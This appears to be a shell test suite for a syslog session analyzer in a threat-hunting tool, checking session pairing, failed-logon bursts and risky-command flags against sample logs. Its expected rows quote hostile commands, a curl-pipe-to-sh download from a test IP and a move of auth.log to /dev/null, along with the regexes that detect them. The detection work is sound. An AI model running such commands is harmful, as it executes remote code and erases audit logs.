#!/bin/sh
# plugins/syslog_sessions/test_syslog_sessions.sh -- the analyzer through
# the CLI.  Expected rows were derived independently with python3: a
# separate implementation of the README's rules (re for the messages,
# datetime for times, sorting by (time, kind, input order), LIFO pairing
# per host/service/user/pid, attach and burst rules), run on the same
# files and printed with the csv module.
. "$HK_SRCDIR/tests/lib.sh"

SYS="$DATA/msticpy/syslog_data.csv"
SUDO="$DATA/msticpy/sudo_events.csv"
AUTH="$DATA/syslog/auth.log"
COLS="Kind, Computer, Service, User, ByUser, SourceIP, Method, Start, End, Commands, FailedLogons, Risky"

# --- MSTICPy's data -------------------------------------------------------------

# sudo_events.csv: a close with no open (before the data), then one session
hk run -v "syslog path=$SUDO | syslog_sessions | select Kind, Computer, Service, User, ByUser, Start, End, DurationSeconds, Commands, CommandList, Risky | csv"
is "$rc" 0 "sudo_events.csv"
is "$out" 'Kind,Computer,Service,User,ByUser,Start,End,DurationSeconds,Commands,CommandList,Risky
session,squid-uk-02,sudo,root,peteb,2019-07-10T15:13:26Z,2019-07-10T15:13:26Z,0,1,"[""/usr/sbin/squid""]",false' \
  "sudo_events.csv: one session, its command, the sudoer from 'by peteb'"
like "$err" "1 session closes had no open session" "the orphan close is counted (info)"

# syslog_data.csv: 33 opens and 33 closes at minute resolution, in no
# reliable order within a minute (MSTICPy's two-pointer walk finds 32)
hk run "syslog path=$SYS | syslog_sessions | count by Kind, Commands, Risky | csv"
is "$out" "Kind,Commands,Risky,count
session,1,false,32
session,2,true,1" "syslog_data.csv: 33 sudo sessions, one risky"

hk run "syslog path=$SYS | syslog_sessions | where Risky == true | select Start, End, User, ByUser, CommandList, RiskReasons | csv"
is "$out" 'Start,End,User,ByUser,CommandList,RiskReasons
2019-07-08T16:09:00Z,2019-07-08T16:09:00Z,root,omsagent,"[""/opt/microsoft/omsagent/ruby/bin/ruby /opt/microsoft/omsagent/plugin/tailfilereader.rb /var/log/ufw.log -p /var/opt/microsoft/omsagent/state/CUSTOM_LOG_BLOB.UFW_CL_b1315f05-4a7a-45b4-811f-73e715f7c122.pos"",""/bin/bash""]","[""risky command: /bin/bash (rule .*/bin/bash.*)""]"' \
  "syslog_data.csv: the session that ran /bin/bash (MSTICPy's default rule)"

hk run "syslog path=$SYS | syslog_sessions | head n=1 | select Start, End, ByUser, Commands | csv"
is "$out" "Start,End,ByUser,Commands
2019-07-08T14:41:00Z,2019-07-08T14:41:00Z,omsagent,1" \
  "syslog_data.csv: sorted by start; 'by (uid=0)' takes the command's sudoer"

# the file provider's table works as well (same column names)
hk run "file path=$SYS | syslog_sessions | count | csv"
is "$out" "count
33" "input from the file provider"

# --- a hand-made auth.log ---------------------------------------------------------

hk run "syslog path=$AUTH year=2024 | syslog_sessions | select $COLS | csv"
is "$out" 'Kind,Computer,Service,User,ByUser,SourceIP,Method,Start,End,Commands,FailedLogons,Risky
failed_logons,web1,sshd,"[""admin"",""root"",""test"",""oracle""]",,203.0.113.9,password,2024-03-03T09:59:00Z,2024-03-03T09:59:44Z,0,6,true
session,web1,sshd,alice,,198.51.100.7,password,2024-03-03T10:00:00Z,2024-03-03T10:10:00Z,0,0,false
session,web1,sudo,root,alice,,sudo,2024-03-03T10:01:10Z,2024-03-03T10:01:15Z,1,0,false
session,web1,sudo,root,alice,,sudo,2024-03-03T10:02:00Z,2024-03-03T10:02:03Z,1,0,true
session,web1,su,root,alice,,su,2024-03-03T10:03:00Z,2024-03-03T10:05:00Z,0,0,false
session,web1,sshd,alice,,192.0.2.44,publickey,2024-03-03T10:04:00Z,2024-03-03T10:30:00Z,0,0,false
session,web1,sshd,bob,,198.51.100.8,keyboard-interactive/pam,2024-03-03T10:06:00Z,2024-03-03T10:20:00Z,0,0,false
failed_logons,web1,sshd,carol,,203.0.113.50,password,2024-03-03T11:00:00Z,2024-03-03T11:00:50Z,0,6,true
session,web1,sshd,carol,,203.0.113.50,password,2024-03-03T11:01:00Z,,0,6,true
sudo_command,web1,sudo,root,dave,,sudo,2024-03-03T12:00:00Z,,1,0,false
sudo_command,web1,sudo,root,dave,,sudo,2024-03-03T12:00:01Z,,1,0,false
sudo_command,web1,sudo,root,dave,,sudo,2024-03-03T12:00:02Z,,1,0,true
sudo_refused,web1,sudo,root,eve,,sudo,2024-03-03T12:05:10Z,,0,0,true
failed_logons,db1,su,mallory,,,pam,2024-03-03T13:00:00Z,2024-03-03T13:00:40Z,0,5,true
session,db1,su,root,mallory,,su,2024-03-03T13:01:00Z,2024-03-03T13:09:30Z,0,5,true' \
  "auth.log: sshd/su/sudo sessions, process ids pair alice's two logons, failures, refusals"

hk run "syslog path=$AUTH year=2024 | syslog_sessions | where Kind == \"session\" and Service == \"sshd\" | select User, SourcePort, ProcessID, DurationSeconds | csv"
is "$out" "User,SourcePort,ProcessID,DurationSeconds
alice,50022,2100,600
alice,51515,2200,1560
bob,50100,2150,840
carol,41010,3010," "sshd: port and pid from the logon, duration (an open session has none)"

hk run "syslog path=$AUTH year=2024 | syslog_sessions | where Risky == true and Kind != \"failed_logons\" | select Start, User, RiskReasons | csv"
is "$out" 'Start,User,RiskReasons
2024-03-03T10:02:00Z,root,"[""risky command: /bin/sh -c curl -s http://203.0.113.9/x.sh | sh (rule .*(wget|curl).*\\|?.*sh.*)""]"
2024-03-03T11:01:00Z,carol,"[""6 failed logons in the 300 s before""]"
2024-03-03T12:00:02Z,root,"[""risky command: /usr/bin/mv /var/log/auth.log /dev/null (rule .*(mv.*/dev/null).*)""]"
2024-03-03T12:05:10Z,root,"[""sudo refused: 3 incorrect password attempts""]"
2024-03-03T13:01:00Z,root,"[""5 failed logons in the 300 s before""]"' \
  "reasons: risky commands, failures before a logon, a refused sudo"

# --- options ---------------------------------------------------------------------

hk run "syslog path=$AUTH year=2024 | syslog_sessions burst_commands=3 | where ByUser == \"dave\" | select Start, RiskReasons | csv"
is "$out" 'Start,RiskReasons
2024-03-03T12:00:00Z,"[""part of a burst: 3 or more sudo commands by dave within 5 s""]"
2024-03-03T12:00:01Z,"[""part of a burst: 3 or more sudo commands by dave within 5 s""]"
2024-03-03T12:00:02Z,"[""risky command: /usr/bin/mv /var/log/auth.log /dev/null (rule .*(mv.*/dev/null).*)"",""part of a burst: 3 or more sudo commands by dave within 5 s""]"' \
  "burst_commands=3: dave's three commands in 2 s"
hk run "syslog path=$AUTH year=2024 | syslog_sessions burst_commands=3 burst_seconds=2s | where ByUser == \"dave\" and Risky == true | count | csv"
is "$out" "count
1" "burst_seconds=2s: 2 s apart is not within 2 s"

hk run "syslog path=$AUTH year=2024 | syslog_sessions failed_threshold=7 | count by Kind | csv"
is "$out" "Kind,count
session,8
sudo_command,3
sudo_refused,1" "failed_threshold=7: no bursts"
hk run "syslog path=$AUTH year=2024 | syslog_sessions failed_window=12s | where Kind == \"failed_logons\" | select User, FailedLogons, Start, End | csv"
is "$out" 'User,FailedLogons,Start,End
"[""admin"",""root"",""test""]",5,2024-03-03T09:59:00Z,2024-03-03T09:59:31Z
carol,6,2024-03-03T11:00:00Z,2024-03-03T11:00:50Z
mallory,5,2024-03-03T13:00:00Z,2024-03-03T13:00:40Z' \
  "failed_window=12s: a 13 s gap ends the first burst"

hk run "syslog path=$AUTH year=2024 | syslog_sessions exclude_services=nothing | where Service == \"cron\" | select User, Start, End | csv"
is "$out" "User,Start,End
root,2024-03-03T10:00:01Z,2024-03-03T10:00:01Z" "exclude_services: cron sessions are kept when not excluded"

hk run "syslog path=$AUTH year=2024 | syslog_sessions risky=.*apt-get.* | where Commands > 0 and Risky == true | select Start, RiskReasons | csv"
is "$out" 'Start,RiskReasons
2024-03-03T10:01:10Z,"[""risky command: /usr/bin/apt-get update (rule .*apt-get.*)""]"' \
  "risky= replaces the default rules"

# MSTICPy's rules file format
printf '{"Syslog": [".*squid.*", ".*apt.get.*", ".*pam_unix.*"]}\n' >"$T/risky_stuff_custom.json"
hk run "syslog path=$SUDO | syslog_sessions risky_file=$T/risky_stuff_custom.json | select Risky, RiskReasons | csv"
is "$out" 'Risky,RiskReasons
true,"[""risky command: /usr/sbin/squid (rule .*squid.*)""]"' "risky_file: MSTICPy's JSON rules"
printf '# one per line\n\n/usr/sbin/squid$\n' >"$T/rules.txt"
hk run "syslog path=$SUDO | syslog_sessions risky_file=$T/rules.txt | select Risky | csv header=false"
is "$out" "true" "risky_file: one regex per line, comments skipped"

mkdir -p "$T/conf/conf.d"
printf 'plugin: syslog_sessions\ninstance: strict\nconfig:\n  risky_commands:\n    - ".*squid.*"\n' >"$T/conf/conf.d/sessions.yaml"
HUNTKIT_CONFIG="$T/conf" hk run "syslog path=$SUDO | syslog_sessions:strict | select Risky | csv header=false"
is "$out" "true" "risky_commands from the instance config"

# --- errors -----------------------------------------------------------------------

hk run "syslog path=$SUDO | syslog_sessions risky=(unclosed | csv"
[ "$rc" -ne 0 ]; ok $? "a broken rule fails the run"
like "$err" "syslog_sessions: risky rule '(unclosed' (option risky): missing closing parenthesis at offset 9" \
  "broken rule: named with the PCRE2 message"

printf 'a,b\n1,2\n' >"$T/x.csv"
hk run "file path=$T/x.csv | syslog_sessions | csv"
[ "$rc" -ne 0 ]; ok $? "input without the columns fails"
like "$err" "syslog_sessions: needs a timestamp column 'TimeGenerated' and a text column 'SyslogMessage' (columns: a, b; set time_column= / message_column=)" \
  "missing columns: the input's columns are listed"

hk run "syslog path=$SUDO | select TimeGenerated as T, SyslogMessage as M | syslog_sessions time_column=T message_column=M | count | csv"
is "$out" "count
1" "time_column= / message_column= name other columns"

done_testing
